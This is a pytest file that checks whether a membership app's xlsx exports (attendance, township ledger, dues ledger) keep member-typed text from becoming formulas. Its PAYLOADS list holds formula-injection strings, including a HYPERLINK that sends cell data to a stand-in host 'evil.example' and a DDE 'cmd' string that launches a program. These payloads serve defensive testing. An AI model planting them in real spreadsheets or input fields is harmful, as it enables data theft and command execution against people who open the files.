"""Formula injection: text a member types (a leave reason) must reach the secretary's xlsx as text, never as a
formula Excel would run (=HYPERLINK(...), =cmd|...)."""
from io import BytesIO

from openpyxl import load_workbook

from server.checkins.models import LeaveRequest
from server.common.timeutil import utcnow
from server.extensions import db
from tests.checkins.conftest import make_event
from tests.factories import bearer, make_branch, make_member, member_token, staff_token

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)")


def test_member_typed_leave_reason_is_text_in_the_attendance_sheet(client, ctx):
    branch = make_branch()
    event = make_event(branch)
    secretary = bearer(staff_token("branch_secretary", branch.id))
    for i, payload in enumerate(PAYLOADS):
        member = make_member(branch)
        if i % 2 == 0:  # approved (on leave: the reason alone in a cell), or left pending (absent)
            db.session.add(LeaveRequest(event_id=event.id, member_id=member.id, reason=payload, status="approved",
                                        created_at=utcnow()))
            db.session.commit()
        else:
            resp = client.post(f"/api/v1/events/{event.id}/leave", json={"reason": payload},
                               headers=bearer(member_token(member)))
            assert resp.status_code == 201, resp.get_json()
    resp = client.get(f"/api/v1/events/{event.id}/attendance?format=xlsx", headers=secretary)
    assert resp.status_code == 200
    ws = load_workbook(BytesIO(resp.data)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a member's text became a formula"
    texts = " ".join(c.value for c in cells)
    for payload in PAYLOADS:
        assert payload in texts


def test_member_typed_report_is_text_in_the_township_export(tmp_path):
    """The township client's workbook carries members' own report-ins (city, address, employer)."""
    from server.sync.client import Ledger, export_xlsx

    ledger = Ledger(str(tmp_path / "ledger.db"))
    payload = PAYLOADS[0]
    ledger.apply([
        {"seq": 1, "type": "member.upserted", "member_id": 7, "township_id": 1, "at": "2026-11-01T08:00:00+08:00",
         "data": {"name": "张建国", "township": {"id": 1, "name": "金山镇"}, "status": "active",
                  "employer": payload}},
        {"seq": 2, "type": "report.created", "member_id": 7, "township_id": 1, "at": "2026-11-01T08:00:00+08:00",
         "data": {"report_id": 1, "month": "2026-11", "city": payload, "address": payload, "employer": payload,
                  "reported_at": "2026-11-01T08:00:00+08:00"}},
    ], next_cursor=2)
    out = tmp_path / "ledger.xlsx"
    export_xlsx(ledger, str(out))
    ledger.close()
    book = load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert sum(c.value == payload for c in cells) == 4


def test_names_in_the_dues_ledger_are_text(client, ctx):
    """A roster name is typed by a person too; the ledger sheet writes it as data."""
    branch = make_branch()
    for payload in PAYLOADS:
        make_member(branch, name=payload[:60])
    resp = client.get(f"/api/v1/branches/{branch.id}/dues/ledger?format=xlsx",
                      headers=bearer(staff_token("branch_secretary", branch.id)))
    assert resp.status_code == 200
    cells = [c for row in load_workbook(BytesIO(resp.data)).active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a member's name became a formula"
    assert {p[:60] for p in PAYLOADS} <= {c.value for c in cells}
